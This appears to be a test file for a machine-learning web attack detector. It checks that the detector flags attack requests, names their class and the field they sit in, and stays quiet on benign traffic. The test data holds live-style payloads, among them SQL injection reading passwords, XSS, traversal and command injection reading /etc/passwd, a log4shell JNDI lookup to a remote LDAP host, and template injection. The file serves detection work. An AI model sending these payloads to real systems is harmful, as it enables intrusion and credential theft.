/** The bundled generic model, through onnxruntime, on the project's own examples. */
import { beforeAll, describe, expect, test } from "bun:test";
import { Detector } from "../../src/detect/detector.ts";
import { rawHttpParser } from "../../src/parse/raw-http.ts";
import { isParseError, type HttpRequest } from "../../src/core/http-request.ts";
import { exportLinearOnnx, readLinearOnnx } from "../../src/detect/onnx/linear.ts";
import { SparseLinearSession } from "../../src/detect/onnx/session.ts";
import { logits, softmaxInPlace, trainSoftmax } from "../../src/detect/generic/softmax.ts";
import { featurizeField } from "../../src/detect/featurize.ts";
import { makeField } from "../../src/detect/fields.ts";

function req(raw: string): HttpRequest {
  const r = rawHttpParser.parse(raw, { source: "test" });
  if (isParseError(r)) throw new Error(r.reason);
  return r;
}
const get = (target: string, headers = "") => req(`GET ${target} HTTP/1.1\nHost: shop.test\n${headers}`);

let detector: Detector;
beforeAll(async () => {
  detector = await Detector.load();
});

describe("generic model", () => {
  const attacks: [string, HttpRequest, string, string][] = [
    ["sqli in a query value", get("/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"), "sqli", "query.id"],
    ["xss in a query value", get("/search?q=%3Csvg%20onload%3Dalert(document.domain)%3E"), "xss", "query.q"],
    // A segment sent with escapes is the value a route reads: the reason points at it.
    ["traversal in the path", get("/download/..%2f..%2f..%2f..%2fetc%2fpasswd"), "traversal", "path.segment[2]"],
    ["command injection", get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), "cmdi", "query.host"],
    ["log4shell in a header", get("/", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"), "log4shell", "header.user-agent"],
    ["ssti", get("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), "ssti", "query.name"],
    ["scanner probe", get("/.git/config"), "scanner", "path"],
    // Short probes, without a site model to help.
    ["a short template probe", get("/search?q={{7*7}}"), "ssti", "query.q"],
    ["a redirect to a host spelled to confuse URL parsers", get("/login?next=/%5Cphish.example.net"), "open-redirect", "query.next"],
    ["a NoSQL operator", get("/items?filter=%7B%22%24ne%22%3Anull%7D"), "nosqli", "query.filter"],
  ];
  for (const [what, request, cls, field] of attacks) {
    test(`flags ${what}, names the class and points at the field`, async () => {
      const [v] = await detector.judge([request]);
      expect(v!.isAnomaly).toBe(true);
      expect(v!.attackType).toBe(cls);
      expect(v!.reasons[0]).toMatchObject({ field, detector: "generic", name: cls });
      expect(v!.reasons[0]!.evidence.length).toBeGreaterThan(2);
      expect(v!.severity).not.toBe("none");
    });
  }

  test("a scanner's User-Agent does not hide the injection it sends: the request is reported, and blocked, as the severer class", async () => {
    const [v] = await detector.judge([get("/products?id=1", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\nReferer: http://shop.test/products AND 6042=9830-- wCYy")]);
    expect(v).toMatchObject({ isAnomaly: true, attackType: "sqli", severity: "critical" });
    expect(v!.reasons[0]).toMatchObject({ field: "header.referer.path", name: "sqli" });
    expect(v!.reasons.some((r) => r.field === "header.user-agent" && r.name === "scanner")).toBe(true);
  });

  test("a Host that is no host name is judged", async () => {
    const [v] = await detector.judge([req("GET / HTTP/1.1\nHost: ELT(8030=8030,SLEEP(5))\n")]);
    expect(v).toMatchObject({ isAnomaly: true, attackType: "sqli" });
    expect(v!.reasons[0]!.field).toBe("header.host");
  });

  test("a command injected into a path segment is flagged: the analyzer's proof is not talked down by the rest of the path", async () => {
    const [v] = await detector.judge([get("/tienda1/publico/%3Bnetstat%20-a%3B")]);
    expect(v!.isAnomaly).toBe(true);
    expect(v!.attackType).toBe("cmdi");
    expect(v!.reasons[0]).toMatchObject({ field: "path.segment[3]", detector: "generic" });
    expect(v!.reasons[0]!.evidence).toContain("netstat");
  });

  test("the evidence is the substring that carries the attack", async () => {
    const [v] = await detector.judge([get("/search?q=blue+shoes+%27+OR+1%3D1--+&page=2")]);
    expect(v!.reasons[0]!.evidence.toLowerCase()).toContain("or 1=1");
  });

  test("stays quiet on benign shapes that fool naive rules", async () => {
    const benign = [
      get("/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E+%D0%BF%D0%BE%D0%B8%D1%81%D0%BA&lang=ja"),
      get("/api/v1/items?filter=%7B%22price%22%3A%7B%22min%22%3A10%7D%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D"),
      get("/auth/callback?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
      get("/collect?v=2&tid=G-ABC123&cid=1234567890.1700000000&dl=https%3A%2F%2Fshop.test%2Fcart&dt=Cart%20%E2%80%93%20Shop&sr=1920x1080"),
      get("/profile?name=O%27Brien&bio=rock+%27n%27+roll+fan"),
      get("/static/js/app.3f9a2c.js?v=1.2.3"),
      get("/landing?ref=https%3A%2F%2Fwww.google.com%2F&utm_content=%7B%7Bfirst_name%7D%7D"),
      get("/login?next=/account/orders"),
    ];
    const verdicts = await detector.judge(benign);
    expect(verdicts.map((v) => v.isAnomaly)).toEqual(benign.map(() => false));
  });

  test("a benign request is explained only by what an analyzer found: no value with a finding, no generic reason", async () => {
    const explaining = await Detector.load({ explainAll: true });
    for (const plain of await explaining.judge([get("/search?q=hello"), get("/products/p41?utm_campaign=xmas-2026")])) {
      expect(plain.isAnomaly).toBe(false);
      expect(plain.reasons).toEqual([]);
    }
    // A weak finding on a benign request is still shown, with its evidence.
    const [weak] = await explaining.judge([get("/search?q=el.innerHTML%3Dx")]);
    expect(weak!.isAnomaly).toBe(false);
    expect(weak!.reasons[0]).toMatchObject({ field: "query.q", detector: "generic", evidence: "el.innerHTML" });
  });

  test("scores a batch in order", async () => {
    const batch = [get("/a?x=1"), get("/b?x=%3Cscript%3Ealert(1)%3C/script%3E"), get("/c")];
    const verdicts = await detector.judge(batch);
    expect(verdicts.map((v) => v.isAnomaly)).toEqual([false, true, false]);
  });
});

describe("leaves", () => {
  test("identifiers (hex session ids, hashes, UUIDs) are leaves, but the lexical model does not score them", async () => {
    const lexical = detector.generic.lexical;
    const before = lexical.cacheHits + lexical.cacheMisses;
    const [p] = await lexical.probabilities([{ location: "cookie", text: "EA414B3E327DED6875848530C864BD8F" }]);
    expect(p![0]).toBe(1);
    expect(lexical.cacheHits + lexical.cacheMisses).toBe(before);
  });

  test("the lexical cache keeps one text's answers apart by location, and serves a repeat what it first got", async () => {
    const lexical = detector.generic.lexical;
    const text = `<img src=x onerror=alert(${Date.now()})>`;
    const misses = lexical.cacheMisses;
    const [path, query, repeat] = await lexical.probabilities([{ location: "path", text }, { location: "query", text }, { location: "path", text }]);
    expect(lexical.cacheMisses - misses).toBe(3);
    expect(Array.from(path!)).not.toEqual(Array.from(query!));
    expect(Array.from(repeat!)).toEqual(Array.from(path!));
    const hits = lexical.cacheHits;
    const [cached] = await lexical.probabilities([{ location: "query", text }]);
    expect(lexical.cacheHits - hits).toBe(1);
    expect(Array.from(cached!)).toEqual(Array.from(query!));
  });

  test("an attack in a cookie is still scored", async () => {
    const [v] = await detector.judge([get("/", "Cookie: JSESSIONID=EA414B3E327DED6875848530C864BD8F; pref=1%27%20UNION%20SELECT%20password%20FROM%20users--")]);
    expect(v!.isAnomaly).toBe(true);
    expect(v!.reasons[0]!.field).toBe("cookie.pref");
  });
});

describe("batch scoring", () => {
  test("values repeated within a batch get the same verdicts as when judged alone", async () => {
    const long = `/docs?text=${"lorem+ipsum+".repeat(30)}`;
    const targets = ["/a?q=shoes", "/b?q=%3Cscript%3Ealert(1)%3C/script%3E", "/a?q=shoes", long, "/b?q=%3Cscript%3Ealert(1)%3C/script%3E", long, "/c?q=shoes"];
    const batch = await (await Detector.load()).judge(targets.map((t) => get(t)));
    const alone = await Detector.load();
    for (const [i, t] of targets.entries()) {
      const [v] = await alone.judge([get(t)]);
      expect(batch[i]!.score).toBeCloseTo(v!.score, 6);
      expect(batch[i]!.attackType).toBe(v!.attackType);
    }
    expect(batch.map((v) => v.isAnomaly)).toEqual([false, true, false, false, true, false, false]);
  });
});

describe("ONNX export", () => {
  test("a trained model gives the same probabilities in onnxruntime as in TypeScript", async () => {
    const texts = ["hello world", "1 or 1=1", "<script>", "shoes", "union select", "red"];
    const X = texts.map((t) => featurizeField(makeField("query", "v", t), { version: 1, buckets: 1 << 10, ngramMin: 1, ngramMax: 3 }));
    const w = trainSoftmax(X, Uint8Array.from([0, 1, 2, 0, 1, 0]), new Float32Array(6).fill(1), 3, 1 << 10, { epochs: 20, learningRate: 0.5, l2: 0, seed: 1 });
    const bytes = exportLinearOnnx(w, { "moat.test": "yes" });
    const back = readLinearOnnx(bytes);
    expect(back.metadata["moat.test"]).toBe("yes");
    expect(Array.from(back.weights.W)).toEqual(Array.from(w.W));
    const probs = await (await SparseLinearSession.create(bytes, 3)).run(X);
    const z = new Float64Array(3);
    X.forEach((x, i) => {
      logits(w, x, z);
      softmaxInPlace(z);
      for (let c = 0; c < 3; c++) expect(probs[i * 3 + c]!).toBeCloseTo(z[c]!, 5);
    });
  });
});
